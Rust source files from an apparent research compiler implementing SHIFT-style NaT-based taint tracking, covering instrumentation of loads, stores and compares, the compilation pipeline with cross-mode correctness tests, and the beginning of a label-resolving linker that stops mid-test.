    out: &mut Vec<CInsn<Gpr>>,
    opts: &ShiftOptions,
    stats: &mut InstrumentStats,
    rewritten: Op<Gpr>,
    dirty_operands: &[Gpr],
    orig: &CInsn<Gpr>,
) {
    if opts.nat_cmp {
        stats.cmps_nat_aware += 1;
        out.push(CInsn { qp: orig.qp, op: COp::Isa(rewritten), prov: orig.prov, glue: false });
        return;
    }
    if dirty_operands.is_empty() {
        stats.cmps_skipped += 1;
        out.push(orig.clone());
        return;
    }
    stats.cmps_relaxed += 1;
    let slots = [(PT, layout::LAUNDER0), (PF, layout::LAUNDER1)];
    for (i, &r) in dirty_operands.iter().enumerate() {
        let (pk, slot) = slots[i];
        out.push(isa(Op::Tnat { pt: pk, pf: Pr::P0, src: r }, Provenance::Relax));
        if opts.set_clr {
            out.push(isa(Op::Tclr { dst: r }, Provenance::Relax));
        } else {
            launder_baseline(out, r, slot, pk);
        }
    }
    out.push(orig.clone());
    for (i, &r) in dirty_operands.iter().enumerate() {
        let (pk, _) = slots[i];
        if !opts.set_clr {
            maybe_regen(out, opts);
        }
        let op = if opts.set_clr { Op::Tset { dst: r } } else { retaint(r) };
        out.push(isa(op, Provenance::Relax).under(pk));
    }
}

/// Baseline NaT clearing (§4.1): spill the register (banking the NaT bit),
/// then reload with a *plain* load, which drops it. The memory traffic is
/// predicated on `taken` (set by a preceding `tnat`): when the operand is
/// untainted there is nothing to clear, and the predicated-off slots cost
/// issue cycles but no cache accesses — this is what separates the "-safe"
/// from the "-unsafe" bars in Figure 7.
fn launder_baseline(out: &mut Vec<CInsn<Gpr>>, r: Gpr, slot: u64, taken: Pr) {
    out.push(isa(Op::MovI { dst: T2, imm: slot as i64 }, Provenance::Relax));
    out.push(isa(Op::StSpill { src: r, addr: T2 }, Provenance::Relax).under(taken));
    out.push(
        isa(
            Op::Ld { size: MemSize::B8, ext: ExtKind::Zero, dst: r, addr: T2, spec: false },
            Provenance::Relax,
        )
        .under(taken),
    );
}

/// Baseline re-tainting: add the kept NaT-source register (value 0, NaT 1).
fn retaint(r: Gpr) -> Op<Gpr> {
    Op::Alu { op: AluOp::Add, dst: r, src1: r, src2: NAT_SRC }
}

/// Emits the NaT-source generation sequence (Figure 5 ①–②): a long-immediate
/// move of an invalid address, then a speculative load from it, leaving
/// `r31` NaT with value 0. Used at program entry (`NatGen::Kept`), function
/// entry (`PerFunction`), or before every use (`PerUse`).
pub fn emit_nat_gen(out: &mut Vec<CInsn<Gpr>>) {
    out.push(isa(
        Op::MovI { dst: NAT_SRC, imm: crate::NAT_GEN_ADDR as i64 },
        Provenance::TaintSource,
    ));
    out.push(isa(
        Op::Ld { size: MemSize::B8, ext: ExtKind::Zero, dst: NAT_SRC, addr: NAT_SRC, spec: true },
        Provenance::TaintSource,
    ));
}

/// In `PerUse` mode, regenerate the NaT source right before a use of it.
fn maybe_regen(out: &mut Vec<CInsn<Gpr>>, opts: &ShiftOptions) {
    if !opts.set_clr && opts.nat_gen == NatGen::PerUse {
        emit_nat_gen(out);
    }
}

fn ld1(dst: Gpr, addr: Gpr) -> Op<Gpr> {
    Op::Ld { size: MemSize::B1, ext: ExtKind::Zero, dst, addr, spec: false }
}

fn st1(src: Gpr, addr: Gpr) -> Op<Gpr> {
    Op::St { size: MemSize::B1, src, addr }
}

fn cmpi_ne(src: Gpr, imm: i64) -> Op<Gpr> {
    Op::CmpI { rel: CmpRel::Ne, pt: PT, pf: PF, src1: src, imm, nat_aware: false }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ld8(dst: Gpr, addr: Gpr) -> CInsn<Gpr> {
        CInsn::isa(Op::Ld { size: MemSize::B8, ext: ExtKind::Zero, dst, addr, spec: false })
    }

    fn st8(src: Gpr, addr: Gpr) -> CInsn<Gpr> {
        CInsn::isa(Op::St { size: MemSize::B8, src, addr })
    }

    #[test]
    fn load_instrumentation_shape_byte_level() {
        let code = vec![ld8(Gpr::R3, Gpr::R4)];
        let (out, stats) = instrument(&code, &ShiftOptions::baseline(Granularity::Byte));
        assert_eq!(stats.loads, 1);
        // tag computation, one tag-byte load, a compare, the original load,
        // one predicated taint.
        let tag_loads = out.iter().filter(|i| i.prov == Provenance::LdTagMemory).count();
        assert_eq!(tag_loads, 1);
        let taints = out.iter().filter(|i| i.prov == Provenance::TaintSource).count();
        assert_eq!(taints, 1);
        assert!(out.iter().any(|i| i.prov == Provenance::Original
            && matches!(i.op, COp::Isa(Op::Ld { dst: Gpr::R3, .. }))));
        // Byte-level ld8 needs no bit extraction: compute is exactly 7+1 ops.
        let computes = out.iter().filter(|i| i.prov == Provenance::LdTagCompute).count();
        assert_eq!(computes, 8);
    }

    #[test]
    fn word_level_is_never_costlier_than_byte_level() {
        // One tag byte per word: word-level sequences must not exceed the
        // byte-level ones for any access size, and must be strictly shorter
        // for sub-word accesses (no bit extraction, no read-modify-write).
        for size in MemSize::ALL {
            let ld = CInsn::isa(Op::Ld {
                size,
                ext: ExtKind::Zero,
                dst: Gpr::R3,
                addr: Gpr::R4,
                spec: false,
            });
            let (b, _) =
                instrument(std::slice::from_ref(&ld), &ShiftOptions::baseline(Granularity::Byte));
            let (w, _) = instrument(&[ld], &ShiftOptions::baseline(Granularity::Word));
            assert!(w.len() <= b.len(), "ld{}: word {} > byte {}", size.bytes(), w.len(), b.len());
            if size != MemSize::B8 {
                assert!(w.len() < b.len(), "ld{}: expected strictly shorter", size.bytes());
            }

            let st = CInsn::isa(Op::St { size, src: Gpr::R3, addr: Gpr::R4 });
            let (b, _) =
                instrument(std::slice::from_ref(&st), &ShiftOptions::baseline(Granularity::Byte));
            let (w, _) = instrument(&[st], &ShiftOptions::baseline(Granularity::Word));
            assert!(w.len() <= b.len(), "st{}: word {} > byte {}", size.bytes(), w.len(), b.len());
        }
    }

    #[test]
    fn store8_uses_spill_and_no_rmw_at_byte_level() {
        let code = vec![st8(Gpr::R3, Gpr::R4)];
        let (out, stats) = instrument(&code, &ShiftOptions::baseline(Granularity::Byte));
        assert_eq!(stats.stores, 1);
        assert_eq!(stats.stores_laundered, 0);
        // Data store became st8.spill.
        assert!(out
            .iter()
            .any(|i| matches!(i.op, COp::Isa(Op::StSpill { src: Gpr::R3, addr: Gpr::R4 }))));
        // Only ONE tag memory access (a store, no read-modify-write).
        let tagmem: Vec<_> = out.iter().filter(|i| i.prov == Provenance::StTagMemory).collect();
        assert_eq!(tagmem.len(), 1);
        assert!(matches!(tagmem[0].op, COp::Isa(Op::St { .. })));
    }

    #[test]
    fn subword_store_launders_on_baseline_but_not_with_set_clr() {
        let st1 = CInsn::isa(Op::St { size: MemSize::B1, src: Gpr::R3, addr: Gpr::R4 });
        let (base, s1) =
            instrument(std::slice::from_ref(&st1), &ShiftOptions::baseline(Granularity::Byte));
        assert_eq!(s1.stores_laundered, 1);
        // Baseline laundering costs memory traffic.
        assert!(base
            .iter()
            .any(|i| i.prov == Provenance::Relax && matches!(i.op, COp::Isa(Op::StSpill { .. }))));

        let mut opts = ShiftOptions::baseline(Granularity::Byte);
        opts.set_clr = true;
        let (enh, s2) = instrument(&[st1], &opts);
        assert_eq!(s2.stores_laundered, 1);
        assert!(enh.iter().any(|i| matches!(i.op, COp::Isa(Op::Tclr { .. }))));
        assert!(!enh
            .iter()
            .any(|i| i.prov == Provenance::Relax && matches!(i.op, COp::Isa(Op::StSpill { .. }))));
    }

    #[test]
    fn compares_relaxed_then_removed_by_nat_cmp() {
        let cmp = CInsn::isa(Op::Cmp {
            rel: CmpRel::Lt,
            pt: Pr::P1,
            pf: Pr::P2,
            src1: Gpr::R3,
            src2: Gpr::R4,
            nat_aware: false,
        });
        // Dirty the operands first with loads.
        let code = vec![ld8(Gpr::R3, Gpr::R5), ld8(Gpr::R4, Gpr::R5), cmp];
        let (base, s) = instrument(&code, &ShiftOptions::baseline(Granularity::Byte));
        assert_eq!(s.cmps_relaxed, 1);
        let relax = base.iter().filter(|i| i.prov == Provenance::Relax).count();
        assert!(relax >= 8, "two operands laundered + re-tainted, got {relax}");

        let (enh, s2) = instrument(&code, &ShiftOptions::enhanced(Granularity::Byte));
        assert_eq!(s2.cmps_nat_aware, 1);
        assert!(enh.iter().all(|i| i.prov != Provenance::Relax));
        assert!(enh.iter().any(|i| matches!(i.op, COp::Isa(Op::Cmp { nat_aware: true, .. }))));
    }

    #[test]
    fn clean_analysis_skips_relaxation() {
        // Both operands are MovI-defined: provably clean.
        let code = vec![
            CInsn::isa(Op::MovI { dst: Gpr::R3, imm: 5 }),
            CInsn::isa(Op::MovI { dst: Gpr::R4, imm: 9 }),
            CInsn::isa(Op::Cmp {
                rel: CmpRel::Lt,
                pt: Pr::P1,
                pf: Pr::P2,
                src1: Gpr::R3,
                src2: Gpr::R4,
                nat_aware: false,
            }),
        ];
        let (_, s) = instrument(&code, &ShiftOptions::baseline(Granularity::Byte));
        assert_eq!(s.cmps_skipped, 1);
        assert_eq!(s.cmps_relaxed, 0);
    }

    #[test]
    fn clean_store_avoids_tnat() {
        let code = vec![CInsn::isa(Op::MovI { dst: Gpr::R3, imm: 5 }), st8(Gpr::R3, Gpr::R4)];
        let (out, _) = instrument(&code, &ShiftOptions::baseline(Granularity::Byte));
        assert!(!out.iter().any(|i| matches!(i.op, COp::Isa(Op::Tnat { .. }))));
        // Clean 8-byte store keeps the plain st8 form.
        assert!(out
            .iter()
            .any(|i| matches!(i.op, COp::Isa(Op::St { size: MemSize::B8, src: Gpr::R3, .. }))));
    }

    #[test]
    fn glue_is_not_instrumented() {
        let code = vec![st8(Gpr::R3, Gpr::R4).glued()];
        let (out, stats) = instrument(&code, &ShiftOptions::baseline(Granularity::Byte));
        assert_eq!(out.len(), 1);
        assert_eq!(stats.stores, 0);
    }

    #[test]
    fn sanitize_markers_expand_on_baseline() {
        let code = vec![CInsn::isa(Op::Tclr { dst: Gpr::R3 })];
        let (base, s) = instrument(&code, &ShiftOptions::baseline(Granularity::Byte));
        assert_eq!(s.sanitizes, 1);
        assert!(base.len() > 1, "baseline must launder instead of tclr");

        let mut opts = ShiftOptions::baseline(Granularity::Byte);
        opts.set_clr = true;
        let (enh, _) = instrument(&code, &opts);
        assert_eq!(enh.len(), 1);
    }

    #[test]
    fn clean_tracking_resets_at_labels() {
        let code = vec![
            CInsn::isa(Op::MovI { dst: Gpr::R3, imm: 5 }),
            CInsn::new(COp::Bind(crate::vcode::Label(1))),
            CInsn::isa(Op::CmpI {
                rel: CmpRel::Eq,
                pt: Pr::P1,
                pf: Pr::P2,
                src1: Gpr::R3,
                imm: 0,
                nat_aware: false,
            }),
        ];
        let (_, s) = instrument(&code, &ShiftOptions::baseline(Granularity::Byte));
        // After the label, r3 may have been written by a predecessor: relax.
        assert_eq!(s.cmps_relaxed, 1);
    }
}
