//! # shift-compiler — lowering, register allocation, and the SHIFT pass
//!
//! The pipeline mirrors the paper's GCC integration (§4.2): IR is lowered to
//! machine code over virtual registers, liveness-driven linear-scan
//! allocation assigns physical registers (reserving `r28–r31` and `p6/p7`
//! for instrumentation), and **then** the SHIFT pass instruments loads,
//! stores and compares on the allocated code — "after register allocation,
//! before scheduling", exactly where the paper inserts its phase so it
//! cannot interfere with either.
//!
//! ## Example
//!
//! ```
//! use shift_compiler::{Compiler, Mode, ShiftOptions};
//! use shift_ir::ProgramBuilder;
//! use shift_machine::{Exit, Machine, NullOs};
//! use shift_tagmap::Granularity;
//!
//! let mut pb = ProgramBuilder::new();
//! pb.func("main", 0, |f| {
//!     let v = f.iconst(41);
//!     let r = f.addi(v, 1);
//!     f.ret(Some(r));
//! });
//! let program = pb.build().unwrap();
//!
//! let compiled = Compiler::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
//!     .compile(&program)
//!     .unwrap();
//! let mut machine = Machine::new(&compiled.image);
//! // `main`'s return value becomes the exit status via the entry stub; the
//! // stub's `exit` syscall needs a real runtime, so run with a tiny OS that
//! // accepts it:
//! struct ExitOs;
//! impl shift_machine::Os for ExitOs {
//!     fn syscall(&mut self, m: &mut Machine, num: u32) -> shift_machine::SysResult {
//!         assert_eq!(num, shift_isa::sys::EXIT);
//!         let status = m.cpu.gpr(shift_isa::Gpr::ARG0).value as i64;
//!         shift_machine::SysResult::Stop(Exit::Halted(status))
//!     }
//! }
//! assert_eq!(machine.run(&mut ExitOs, 100_000), Exit::Halted(42));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod instrument;
pub mod link;
pub mod lower;
pub mod peephole;
pub mod regalloc;
pub mod shadow;
pub mod vcode;

use std::collections::HashMap;

use shift_ir::{validate_linked, GlobalId, Program, ValidateError};
use shift_isa::{Gpr, Op};
use shift_machine::{layout, Image};
use shift_tagmap::Granularity;

pub use instrument::{InstrumentStats, NatGen, ShiftOptions, NAT_SRC};
pub use link::LinkError;
pub use lower::LowerError;
pub use vcode::{CInsn, COp, Label, VR};

/// An address guaranteed to be invalid (unimplemented bits set), used by the
/// entry stub's speculative load to manufacture the kept NaT-source register
/// (§4.1, Figure 5 instructions ①–②).
pub const NAT_GEN_ADDR: u64 = 1 << 45;

/// Compilation mode.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Mode {
    /// Plain code generation, no taint tracking (the experiments' baseline).
    Uninstrumented,
    /// SHIFT taint tracking with the given options.
    Shift(ShiftOptions),
    /// Software-only taint tracking: register taint lives in a reserved
    /// register bitmask and every instruction carries explicit propagation
    /// code — the LIFT-style ablation of SHIFT's NaT reuse (see
    /// [`shadow`]).
    Shadow(Granularity),
}

/// Compilation failure.
#[derive(Clone, PartialEq, Debug)]
pub enum CompileError {
    /// The IR program is structurally invalid or has unresolved calls.
    Validate(ValidateError),
    /// Lowering failed.
    Lower(LowerError),
    /// Linking failed.
    Link(LinkError),
}

impl std::fmt::Display for CompileError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CompileError::Validate(e) => write!(f, "invalid program: {e}"),
            CompileError::Lower(e) => write!(f, "lowering error: {e}"),
            CompileError::Link(e) => write!(f, "link error: {e}"),
        }
    }
}

impl std::error::Error for CompileError {}

impl From<ValidateError> for CompileError {
    fn from(e: ValidateError) -> Self {
        CompileError::Validate(e)
    }
}

impl From<LowerError> for CompileError {
    fn from(e: LowerError) -> Self {
        CompileError::Lower(e)
    }
}

impl From<LinkError> for CompileError {
    fn from(e: LinkError) -> Self {
        CompileError::Link(e)
    }
}

/// The compiler.
#[derive(Clone, Copy, Debug)]
pub struct Compiler {
    mode: Mode,
}

/// A fully compiled, linked program.
#[derive(Clone, Debug)]
pub struct CompiledProgram {
    /// The loadable image.
    pub image: Image,
    /// Instruction ranges `[start, end)` per function (includes `_start`).
    pub func_ranges: HashMap<String, (usize, usize)>,
    /// Final addresses of globals, by name.
    pub global_addrs: HashMap<String, u64>,
    /// Aggregated instrumentation statistics (zero when uninstrumented).
    pub stats: InstrumentStats,
}

impl CompiledProgram {
    /// Static size, in instructions, of the named function.
    pub fn func_size(&self, name: &str) -> Option<usize> {
        self.func_ranges.get(name).map(|(s, e)| e - s)
    }

    /// A disassembly listing of the whole image.
    pub fn disasm(&self) -> String {
        shift_isa::disasm_listing(&self.image.code, 0)
    }
}

impl Compiler {
    /// Creates a compiler in the given mode.
    pub fn new(mode: Mode) -> Compiler {
        Compiler { mode }
    }

    /// Convenience constructor for the uninstrumented baseline.
    pub fn baseline() -> Compiler {
        Compiler::new(Mode::Uninstrumented)
    }

    /// The configured mode.
    pub fn mode(&self) -> Mode {
        self.mode
    }

    /// Compiles a linked IR program into a loadable image. The program must
    /// define `main` (taking no parameters); its return value becomes the
    /// process exit status.
    ///
    /// # Errors
    ///
    /// [`CompileError`] on invalid IR, failed lowering, or unresolved
    /// symbols.
    pub fn compile(&self, program: &Program) -> Result<CompiledProgram, CompileError> {
        validate_linked(program)?;

        // ---- global layout ------------------------------------------------
        let mut global_addrs_by_id: HashMap<GlobalId, u64> = HashMap::new();
        let mut global_addrs: HashMap<String, u64> = HashMap::new();
        let mut cursor = layout::GLOBALS_BASE;
        let mut data: Vec<(u64, Vec<u8>)> = Vec::new();
        for (i, g) in program.globals.iter().enumerate() {
            global_addrs_by_id.insert(GlobalId(i as u32), cursor);
            global_addrs.insert(g.name.clone(), cursor);
            if !g.init.is_empty() {
                data.push((cursor, g.init.clone()));
            }
            cursor += g.size.div_ceil(16) * 16;
        }
        let data_len = cursor - layout::DATA_BASE;

        // ---- per-function pipeline ----------------------------------------
        let mut funcs: Vec<(String, Vec<CInsn<Gpr>>)> = Vec::new();
        funcs.push(("_start".into(), self.entry_stub()));
        let mut stats = InstrumentStats::default();
        for f in &program.funcs {
            let lowered = lower::lower_fn(f, &global_addrs_by_id)?;
            let allocated = regalloc::allocate(&lowered);
            let code = match &self.mode {
                Mode::Uninstrumented => strip_sanitize_cost(allocated.code),
                Mode::Shift(opts) => {
                    let (code, s) = instrument::instrument(&allocated.code, opts);
                    stats = merge(stats, s);
                    code
                }
                Mode::Shadow(gran) => shadow::instrument_shadow(&allocated.code, *gran),
            };
            let (code, _) = peephole::peephole(code);
            funcs.push((f.name.clone(), code));
        }

        // ---- link ----------------------------------------------------------
        let linked = link::link(&funcs)?;
        let mut builder = Image::builder()
            .code(linked.code)
            .entry(0)
            .map(layout::DATA_BASE, data_len.max(shift_machine::PAGE_SIZE));
        for (addr, bytes) in data {
            builder = builder.data(addr, bytes);
        }
        let mut image = builder.build();
        image.symbols = linked.symbols;

        Ok(CompiledProgram { image, func_ranges: linked.ranges, global_addrs, stats })
    }

    /// The program entry stub: materialize the NaT-source register (baseline
    /// instrumented mode only), call `main`, and exit with its return value.
    fn entry_stub(&self) -> Vec<CInsn<Gpr>> {
        let mut code = Vec::new();
        if let Mode::Shift(opts) = &self.mode {
            if !opts.set_clr && opts.nat_gen == instrument::NatGen::Kept {
                // movl r31 = <invalid>; ld8.s r31 = [r31] → r31 is NaT, 0.
                instrument::emit_nat_gen(&mut code);
            }
        }
        code.push(CInsn::new(COp::Call("main".into())).glued());
        code.push(CInsn::isa(Op::Mov { dst: Gpr::ARG0, src: Gpr::RET }).glued());
        code.push(CInsn::isa(Op::Syscall { num: shift_isa::sys::EXIT }).glued());
        code.push(CInsn::isa(Op::Halt).glued());
        code
    }
}

/// In uninstrumented builds, `Sanitize` markers (lowered to `tclr`) would
/// execute as enhancement instructions that baseline hardware lacks; they
/// are semantically no-ops without taint, so drop them for a fair baseline.
fn strip_sanitize_cost(code: Vec<CInsn<Gpr>>) -> Vec<CInsn<Gpr>> {
    code.into_iter().filter(|i| !matches!(i.op, COp::Isa(Op::Tclr { .. }))).collect()
}

fn merge(a: InstrumentStats, b: InstrumentStats) -> InstrumentStats {
    InstrumentStats {
        loads: a.loads + b.loads,
        stores: a.stores + b.stores,
        cmps_relaxed: a.cmps_relaxed + b.cmps_relaxed,
        cmps_nat_aware: a.cmps_nat_aware + b.cmps_nat_aware,
        cmps_skipped: a.cmps_skipped + b.cmps_skipped,
        stores_laundered: a.stores_laundered + b.stores_laundered,
        sanitizes: a.sanitizes + b.sanitizes,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_ir::ProgramBuilder;
    use shift_machine::{Exit, Machine, Os, SysResult};
    use shift_tagmap::Granularity;

    /// A minimal OS accepting only `exit`.
    pub struct ExitOs;

    impl Os for ExitOs {
        fn syscall(&mut self, m: &mut shift_machine::Machine, num: u32) -> SysResult {
            assert_eq!(num, shift_isa::sys::EXIT, "test programs only exit");
            SysResult::Stop(Exit::Halted(m.cpu.gpr(Gpr::ARG0).value as i64))
        }
    }

    fn run(program: &Program, mode: Mode) -> (Machine, Exit) {
        let compiled = Compiler::new(mode).compile(program).unwrap();
        let mut m = Machine::new(&compiled.image);
        let exit = m.run(&mut ExitOs, 10_000_000);
        (m, exit)
    }

    fn modes() -> Vec<Mode> {
        vec![
            Mode::Uninstrumented,
            Mode::Shift(ShiftOptions::baseline(Granularity::Byte)),
            Mode::Shift(ShiftOptions::baseline(Granularity::Word)),
            Mode::Shift(ShiftOptions::enhanced(Granularity::Byte)),
            Mode::Shift(ShiftOptions {
                set_clr: true,
                nat_cmp: false,
                ..ShiftOptions::baseline(Granularity::Byte)
            }),
        ]
    }

    #[test]
    fn arithmetic_program_agrees_across_all_modes() {
        let mut pb = ProgramBuilder::new();
        pb.func("main", 0, |f| {
            let a = f.iconst(6);
            let b = f.iconst(7);
            let c = f.mul(a, b);
            f.ret(Some(c));
        });
        let p = pb.build().unwrap();
        for mode in modes() {
            let (_, exit) = run(&p, mode);
            assert_eq!(exit, Exit::Halted(42), "{mode:?}");
        }
    }

    #[test]
    fn memory_program_agrees_across_all_modes() {
        // Sum an array through memory: exercises the load/store templates.
        let mut pb = ProgramBuilder::new();
        let g = pb.global("arr", 80, (0u8..80).collect());
        pb.func("main", 0, move |f| {
            let base = f.global_addr(g);
            let sum = f.iconst(0);
            f.for_up(shift_ir::Rhs::Imm(0), shift_ir::Rhs::Imm(80), |f, i| {
                let addr = f.add(base, i);
                let v = f.load1(addr, 0);
                let s = f.add(sum, v);
                f.assign(sum, s);
            });
            let folded = f.bini(shift_isa::AluOp::And, sum, 0xff);
            f.ret(Some(folded));
        });
        let p = pb.build().unwrap();
        let expect = (0u64..80).sum::<u64>() & 0xff;
        for mode in modes() {
            let (_, exit) = run(&p, mode);
            assert_eq!(exit, Exit::Halted(expect as i64), "{mode:?}");
        }
    }

    #[test]
    fn calls_and_stack_agree_across_all_modes() {
        let mut pb = ProgramBuilder::new();
        pb.func("fib", 1, |f| {
            let n = f.param(0);
            f.if_cmp(shift_isa::CmpRel::Le, n, shift_ir::Rhs::Imm(1), |f| {
                f.ret(Some(n));
            });
            let n1 = f.addi(n, -1);
            let a = f.call("fib", &[n1]);
            let n2 = f.addi(n, -2);
            let b = f.call("fib", &[n2]);
            let s = f.add(a, b);
            f.ret(Some(s));
        });
        pb.func("main", 0, |f| {
            let ten = f.iconst(10);
            let r = f.call("fib", &[ten]);
            f.ret(Some(r));
        });
        let p = pb.build().unwrap();
        for mode in modes() {
            let (_, exit) = run(&p, mode);
            assert_eq!(exit, Exit::Halted(55), "{mode:?}");
        }
    }

    #[test]
    fn instrumented_code_is_larger_and_slower() {
        let mut pb = ProgramBuilder::new();
        let g = pb.global_zeroed("buf", 256);
        pb.func("main", 0, move |f| {
            let base = f.global_addr(g);
            f.for_up(shift_ir::Rhs::Imm(0), shift_ir::Rhs::Imm(256), |f, i| {
                let addr = f.add(base, i);
                f.store1(i, addr, 0);
            });
            let zero = f.iconst(0);
            f.ret(Some(zero));
        });
        let p = pb.build().unwrap();
        let plain = Compiler::baseline().compile(&p).unwrap();
        let shifted = Compiler::new(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
            .compile(&p)
            .unwrap();
        assert!(shifted.image.insn_count() > plain.image.insn_count() * 2);

        let (mp, ep) = {
            let mut m = Machine::new(&plain.image);
            let e = m.run(&mut ExitOs, 10_000_000);
            (m, e)
        };
        let (mi, ei) = run(&p, Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
        assert_eq!(ep, Exit::Halted(0));
        assert_eq!(ei, Exit::Halted(0));
        assert!(
            mi.stats.cycles > mp.stats.cycles * 2,
            "instrumented {} vs plain {}",
            mi.stats.cycles,
            mp.stats.cycles
        );
        assert!(mi.stats.instrumentation_cycles() > 0);
        assert_eq!(mp.stats.instrumentation_cycles(), 0);
    }

    #[test]
    fn differential_against_interpreter() {
        // A mixed program: locals, globals, loops, calls, sub-word memory.
        let mut pb = ProgramBuilder::new();
        let g = pb.global_zeroed("scratch", 128);
        pb.func("mix", 2, move |f| {
            let a = f.param(0);
            let b = f.param(1);
            let base = f.global_addr(g);
            let acc = f.iconst(0);
            f.for_up(shift_ir::Rhs::Imm(0), shift_ir::Rhs::Reg(a), |f, i| {
                let x = f.mul(i, b);
                let idx = f.andi(x, 0x78);
                let addr = f.add(base, idx);
                f.store4(x, addr, 0);
                let v = f.load4(addr, 0);
                let s = f.add(acc, v);
                f.assign(acc, s);
            });
            f.ret(Some(acc));
        });
        pb.func("main", 0, |f| {
            let a = f.iconst(13);
            let b = f.iconst(37);
            let r = f.call("mix", &[a, b]);
            let folded = f.bini(shift_isa::AluOp::And, r, 0xffff);
            f.ret(Some(folded));
        });
        let p = pb.build().unwrap();
        let oracle = {
            let mut pb2 = ProgramBuilder::new();
            pb2.func("wrap", 0, |f| f.ret(None));
            let _ = pb2;
            shift_ir::interp::run_func(&p, "mix", &[13, 37]).unwrap().unwrap()
        };
        let expect = oracle & 0xffff;
        for mode in modes() {
            let (_, exit) = run(&p, mode);
            assert_eq!(exit, Exit::Halted(expect), "{mode:?}");
        }
    }

    #[test]
    fn enhancement_modes_shrink_code_and_cycles() {
        // String-ish workload: byte loads/stores and compares.
        let mut pb = ProgramBuilder::new();
        let g = pb.global("s", 64, b"the quick brown fox jumps over the lazy dog".to_vec());
        let d = pb.global_zeroed("d", 64);
        pb.func("main", 0, move |f| {
            let src = f.global_addr(g);
            let dst = f.global_addr(d);
            let n = f.iconst(0);
            f.loop_(|f| {
                let sa = f.add(src, n);
                let c = f.load1(sa, 0);
                let da = f.add(dst, n);
                f.store1(c, da, 0);
                f.if_cmp(shift_isa::CmpRel::Eq, c, shift_ir::Rhs::Imm(0), |f| f.break_());
                let n2 = f.addi(n, 1);
                f.assign(n, n2);
            });
            f.ret(Some(n));
        });
        let p = pb.build().unwrap();

        let cycles = |mode: Mode| {
            let (m, exit) = run(&p, mode);
            assert!(matches!(exit, Exit::Halted(_)), "{mode:?}: {exit}");
            m.stats.cycles
        };
        let base = cycles(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)));
        let set_clr = cycles(Mode::Shift(ShiftOptions {
            set_clr: true,
            nat_cmp: false,
            ..ShiftOptions::baseline(Granularity::Byte)
        }));
        let both = cycles(Mode::Shift(ShiftOptions::enhanced(Granularity::Byte)));
        let plain = cycles(Mode::Uninstrumented);
        assert!(base > set_clr, "set/clear must help: {base} vs {set_clr}");
        assert!(set_clr > both, "nat-aware compare must help more: {set_clr} vs {both}");
        assert!(both > plain);
    }
}
