//! Linking: resolve labels and call targets, produce a loadable image.

use std::collections::{BTreeMap, HashMap};

use shift_isa::{Br, Gpr, Insn, Op};

use crate::vcode::{CInsn, COp, Label};

/// Error produced while linking.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum LinkError {
    /// A call references a function that was not compiled.
    UnresolvedCall {
        /// The function containing the call.
        from: String,
        /// The missing callee.
        callee: String,
    },
    /// A branch or `chk.s` recovery edge targets a label that was never
    /// bound in its function.
    UnboundLabel {
        /// The function containing the dangling reference.
        func: String,
        /// The label that has no `Bind`.
        label: Label,
    },
}

impl std::fmt::Display for LinkError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            LinkError::UnresolvedCall { from, callee } => {
                write!(f, "`{from}` calls `{callee}`, which was not compiled")
            }
            LinkError::UnboundLabel { func, label } => {
                write!(f, "unbound label {label} in `{func}`")
            }
        }
    }
}

impl std::error::Error for LinkError {}

/// Linked code plus its symbol information.
#[derive(Clone, Debug)]
pub struct Linked {
    /// The flat code image.
    pub code: Vec<Insn>,
    /// Function entry points by name.
    pub entries: HashMap<String, usize>,
    /// `entry → name` map for the image symbol table.
    pub symbols: BTreeMap<usize, String>,
    /// Instruction ranges `[start, end)` per function.
    pub ranges: HashMap<String, (usize, usize)>,
}

/// Links compiled functions into one image. The first function in the list
/// is placed first and becomes the entry point.
///
/// # Errors
///
/// Returns [`LinkError`] for calls to functions not in `funcs` and for
/// branch or `chk.s` targets whose label was never bound.
pub fn link(funcs: &[(String, Vec<CInsn<Gpr>>)]) -> Result<Linked, LinkError> {
    // Pass 1: assign addresses (Bind emits no code).
    let mut entries = HashMap::new();
    let mut labels: HashMap<(usize, Label), usize> = HashMap::new();
    let mut ranges = HashMap::new();
    let mut addr = 0usize;
    for (fi, (name, code)) in funcs.iter().enumerate() {
        entries.insert(name.clone(), addr);
        let start = addr;
        for insn in code {
            match &insn.op {
                COp::Bind(l) => {
                    labels.insert((fi, *l), addr);
                }
                _ => addr += 1,
            }
        }
        ranges.insert(name.clone(), (start, addr));
    }

    // Pass 2: emit resolved instructions.
    let mut out = Vec::with_capacity(addr);
    let mut symbols = BTreeMap::new();
    for (fi, (name, code)) in funcs.iter().enumerate() {
        symbols.insert(entries[name], name.clone());
        for insn in code {
            let op: Op<Gpr> = match &insn.op {
                COp::Bind(_) => continue,
                COp::Isa(op) => {
                    debug_assert!(
                        !matches!(op, Op::Jmp { .. } | Op::Call { .. } | Op::ChkS { .. }),
                        "absolute-target control op before linking in `{name}`"
                    );
                    *op
                }
                COp::Jmp(l) => Op::Jmp {
                    target: *labels
                        .get(&(fi, *l))
                        .ok_or_else(|| LinkError::UnboundLabel { func: name.clone(), label: *l })?,
                },
                COp::Call(callee) => Op::Call {
                    link: Br::B0,
                    target: *entries.get(callee).ok_or_else(|| LinkError::UnresolvedCall {
                        from: name.clone(),
                        callee: callee.clone(),
                    })?,
                },
                COp::ChkS(r, l) => Op::ChkS {
                    src: *r,
                    target: *labels
                        .get(&(fi, *l))
                        .ok_or_else(|| LinkError::UnboundLabel { func: name.clone(), label: *l })?,
                },
            };
            out.push(Insn { qp: insn.qp, op, prov: insn.prov });
        }
    }

    Ok(Linked { code: out, entries, symbols, ranges })
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_isa::Pr;

    fn jmp(l: Label) -> CInsn<Gpr> {
        CInsn::new(COp::Jmp(l))
    }

    fn bind(l: Label) -> CInsn<Gpr> {
        CInsn::new(COp::Bind(l))
    }

    #[test]
    fn labels_resolve_within_functions() {
        let f = (
            "f".to_string(),
            vec![
                bind(Label(0)),
